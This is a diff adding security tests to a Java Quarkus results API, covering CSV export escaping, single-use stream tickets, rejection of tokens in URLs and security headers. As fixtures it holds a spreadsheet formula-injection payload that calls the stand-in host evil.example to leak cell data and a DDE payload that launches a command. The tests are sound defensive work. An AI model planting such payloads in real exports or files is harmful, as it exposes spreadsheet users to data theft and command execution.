@@ -7,6 +7,14 @@ import static org.hamcrest.Matchers.equalTo;
 import static org.hamcrest.Matchers.hasItem;
 import static org.hamcrest.Matchers.hasSize;
 
+import java.io.InputStream;
+import java.net.URI;
+import java.net.URL;
+import java.net.URLEncoder;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
 import java.time.Duration;
 import java.util.ArrayList;
 import java.util.List;
@@ -17,8 +25,10 @@ import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 
 import io.quarkus.test.common.QuarkusTestResource;
+import io.quarkus.test.common.http.TestHTTPResource;
 import io.quarkus.test.junit.QuarkusTest;
 import io.restassured.http.ContentType;
+import io.restassured.response.ValidatableResponse;
 import io.tunet.schemas.Classification;
 import io.tunet.schemas.LabelFeedback;
 import io.tunet.schemas.ModelMetrics;
@@ -29,7 +39,7 @@ import io.tunet.schemas.topics.Topics;
 import io.tunet.testkit.KafkaBrokerTestResource;
 import io.tunet.testkit.TestBroker;
 
-/** The REST API: tokens, filters, pages, CSV, plate summaries and curators' labels. */
+/** The REST API: tokens, live tickets, filters, pages, CSV, plate summaries, curators' labels and headers. */
 @QuarkusTest
 @QuarkusTestResource(KafkaBrokerTestResource.class)
 @QuarkusTestResource(EmbeddedPostgresTestResource.class)
@@ -38,6 +48,11 @@ class ResultsApiTest {
     private static final String PLATE = "PLATE-API";
     private static final String VIEWER = "Bearer " + EmbeddedPostgresTestResource.VIEWER_TOKEN;
     private static final String CURATOR = "Bearer " + EmbeddedPostgresTestResource.CURATOR_TOKEN;
+    /** A plate name a spreadsheet would run as a formula, as any producer on the line could send it. */
+    private static final String HOSTILE_PLATE = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")";
+
+    @TestHTTPResource("/api/stream")
+    URL stream;
 
     @BeforeAll
     static void publishPlate() throws Exception {
@@ -181,10 +196,108 @@ class ResultsApiTest {
     }
 
     @Test
+    void shouldExportCellsThatLookLikeFormulasAsText() throws Exception {
+        Classification hostile = Classification.newBuilder(
+                        Fixtures.classification("@SUM(1+1)*cmd|' /C calc'!A0", HOSTILE_PLATE, "H12", 1, 4, 0.9f,
+                                List.of(4)))
+                .setModelName("-2+3").build();
+        Sink.publish(Topics.CLASSIFICATIONS, List.of(hostile), Classification::getSampleId);
+        Sink.awaitCaughtUp(Duration.ofSeconds(60));
+
+        String csv = given().header("Authorization", VIEWER).queryParam("plate", HOSTILE_PLATE)
+                .when().get("/api/predictions.csv")
+                .then().statusCode(200).extract().asString();
+
+        List<String> lines = csv.lines().toList();
+        assertThat(lines).hasSize(2);
+        assertThat(lines.get(1)).startsWith("'@SUM(1+1)*cmd|' /C calc'!A0,"
+                + "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"open\"\")\",H12,1,'-2+3,1,");
+    }
+
+    @Test
+    void shouldOpenTheLiveStreamOnceWithATicket() throws Exception {
+        String ticket = ticket(VIEWER).body("validForSeconds", equalTo(60)).extract().path("ticket");
+
+        assertThat(openStream("ticket=" + ticket)).isEqualTo(200);
+        assertThat(openStream("ticket=" + ticket)).as("the same ticket again").isEqualTo(401);
+        assertThat(openStream("ticket=not-a-ticket")).isEqualTo(401);
+    }
+
+    @Test
+    void shouldRefuseTokensInTheAddress() throws Exception {
+        String token = URLEncoder.encode(EmbeddedPostgresTestResource.CURATOR_TOKEN, StandardCharsets.UTF_8);
+        assertThat(openStream("access_token=" + token)).isEqualTo(401);
+        given().queryParam("access_token", EmbeddedPostgresTestResource.VIEWER_TOKEN).when().get("/api/samples")
+                .then().statusCode(401).body("error", containsString("Authorization"));
+        given().when().post("/api/live/tickets").then().statusCode(401);
+    }
+
+    @Test
+    void shouldGrantATicketNoMoreThanTheLiveStream() throws Exception {
+        String ticket = ticket(CURATOR).extract().path("ticket");
+
+        given().header("Authorization", "Bearer " + ticket).contentType(ContentType.JSON)
+                .body(Map.of("labels", List.of(1))).when().post("/api/samples/api-A01-0/labels")
+                .then().statusCode(401);
+        given().queryParam("ticket", ticket).contentType(ContentType.JSON)
+                .body(Map.of("labels", List.of(1))).when().post("/api/samples/api-A01-0/labels")
+                .then().statusCode(401);
+        given().queryParam("ticket", ticket).when().get("/api/whoami").then().statusCode(401);
+        given().header("Authorization", "Bearer " + ticket).when().post("/api/live/tickets").then().statusCode(401);
+        // none of that spent it
+        assertThat(openStream("ticket=" + ticket)).isEqualTo(200);
+    }
+
+    @Test
+    void shouldSendSecurityHeadersOnEveryResponse() {
+        List<ValidatableResponse> responses = List.of(
+                given().when().get("/").then().statusCode(200),
+                given().when().get("/js/app.js").then().statusCode(200),
+                given().header("Authorization", VIEWER).when().get("/api/whoami").then().statusCode(200),
+                given().when().get("/api/samples").then().statusCode(401),
+                given().when().get("/q/health/live").then().statusCode(200),
+                given().when().get("/no-such-page").then().statusCode(404));
+        for (ValidatableResponse response : responses) {
+            response.header("Content-Security-Policy", equalTo(DASHBOARD_POLICY))
+                    .header("X-Frame-Options", "DENY")
+                    .header("X-Content-Type-Options", "nosniff")
+                    .header("Referrer-Policy", "no-referrer");
+        }
+        // Swagger UI's page configures itself in an inline script: it alone gets 'unsafe-inline'
+        given().when().get("/q/swagger-ui/").then().statusCode(200)
+                .header("Content-Security-Policy", containsString("frame-ancestors 'none'"))
+                .header("X-Frame-Options", "DENY");
+    }
+
+    @Test
     void shouldPublishTheOpenApiDocumentAndHealthWithoutAToken() {
         given().when().get("/q/openapi").then().statusCode(200).body(containsString("/api/predictions.csv"));
         given().when().get("/q/health/live").then().statusCode(200);
         given().when().get("/q/metrics").then().statusCode(200).body(containsString("results_records_stored_total"));
+    }
+
+    private static final String DASHBOARD_POLICY = "default-src 'none'; script-src 'self'; style-src 'self'; "
+            + "img-src 'self'; connect-src 'self'; frame-ancestors 'none'; base-uri 'none'; form-action 'self'";
+
+    private static ValidatableResponse ticket(String authorization) {
+        return given().header("Authorization", authorization).when().post("/api/live/tickets")
+                .then().statusCode(200);
+    }
+
+    /** Opens the live stream with the given query and closes it again; the status it was answered with. */
+    private int openStream(String query) throws Exception {
+        HttpClient client = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
+                .connectTimeout(Duration.ofSeconds(10)).build();
+        HttpRequest request = HttpRequest.newBuilder(URI.create(stream + "?" + query))
+                .header("Accept", "text/event-stream").timeout(Duration.ofSeconds(20)).GET().build();
+        HttpResponse<InputStream> response = client.send(request, HttpResponse.BodyHandlers.ofInputStream());
+        try (InputStream body = response.body()) {
+            if (response.statusCode() == 200) {
+                assertThat(response.headers().firstValue("Content-Type")).hasValueSatisfying(
+                        type -> assertThat(type).startsWith("text/event-stream"));
+            }
+            return response.statusCode();
+        }
     }
 
     private static org.hamcrest.Matcher<Iterable<? extends Integer>> everyItemIs(int value) {
